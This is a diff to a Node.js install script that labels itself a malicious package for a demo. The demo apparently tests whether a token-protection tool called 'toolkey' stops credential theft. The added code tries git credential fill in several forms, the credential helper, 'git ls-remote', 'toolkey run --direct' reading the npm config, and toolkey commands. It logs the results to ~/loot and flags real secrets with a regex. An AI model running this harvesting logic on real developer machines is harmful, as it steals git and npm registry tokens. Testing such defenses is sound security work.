@@ -1,6 +1,6 @@
-// The install script of a malicious package, for demo.sh: reads where builds keep tokens, and tries to use what it finds.
-// What it read is in ~/loot, what came of it in ~/report.
-const { execFileSync } = require("node:child_process");
+// The install script of a malicious package, for demo.sh: reads where builds keep tokens, tries to use what it finds, and tries
+// every door by which others get tokens. What it read is in ~/loot, what came of it in ~/report.
+const { execFileSync, spawn } = require("node:child_process");
 const { appendFileSync, readdirSync, readFileSync, statSync, writeFileSync } = require("node:fs");
 const http = require("node:http");
 const https = require("node:https");
@@ -53,6 +53,41 @@ function ask(method, url, token, ca) {
   });
 }
 
+/** What a program prints, in a session of its own, where nobody can be asked. */
+function printed(command, args, input = "", options = {}) {
+  return new Promise((resolve) => {
+    const child = spawn(command, args, { detached: true, stdio: ["pipe", "pipe", "pipe"], ...options });
+    let text = "";
+    child.on("error", (error) => (text += error.message));
+    child.stdin.on("error", () => undefined).end(input);
+    for (const stream of [child.stdout, child.stderr]) stream.on("data", (chunk) => (text += chunk));
+    child.once("close", () => resolve(text));
+  });
+}
+
+/** The ways in which git, npm and a person get tokens, each with what comes of it. */
+async function tryDoors(registry) {
+  const tokens = JSON.parse((await printed("toolkey", ["list", "--json"])) || "[]");
+  const { target, username, id } = tokens.find(({ tool }) => tool === "git");
+  const request = `protocol=https\nhost=${new URL(target).host}\nusername=${username}\n\n`;
+  const helper = "git-credential-toolkey";
+  const bare = { env: { HOME: homedir(), PATH: process.env.PATH } };
+  const copied = 'cat "$npm_config_userconfig"';
+  return [
+    ["git credential fill", await printed("git", ["credential", "fill"], request)],
+    ["git credential fill, with a clean environment", await printed("git", ["credential", "fill"], request, bare)],
+    ["git credential fill, as an orphan", await printed("sh", ["-c", "(cat | git credential fill &)"], request)],
+    ["git-credential-toolkey get", await printed(helper, ["get"], request)],
+    ["git ls-remote", await printed("git", ["ls-remote", `${target.replace("//", `//${username}@`)}/alices-app.git`])],
+    ["toolkey run --direct", await printed("toolkey", ["run", "--direct", "--tool", "npm", "--", "sh", "-c", copied])],
+    ["toolkey-authorization npm", await printed("toolkey-authorization", ["npm", registry])],
+    ["toolkey show", await printed("toolkey", ["show", id, "--json"])],
+  ];
+}
+
+/** What was given: a password, a header, a line of an .npmrc that is no phantom, references, a secret. */
+const GIVEN = /^password=|^(?:Bearer|Basic) |_authToken=(?!tkphantom_)|refs\/heads|"secret"/m;
+
 async function main() {
   const pids = parents();
   const npmrc = read(join(homedir(), ".npmrc"));
@@ -78,6 +113,10 @@ async function main() {
         appendFileSync(report, `use   ${method} ${origin}${path}: ${await ask(method, `${origin}${path}`, token, ca)}\n`);
       }
     }
+  }
+  for (const [door, answer] of await tryDoors(registry)) {
+    appendFileSync(join(homedir(), "loot"), `${door}\n${answer}\n`);
+    appendFileSync(report, `door  ${door}: ${GIVEN.test(answer) ? answer : "nothing"}\n`);
   }
 }
 
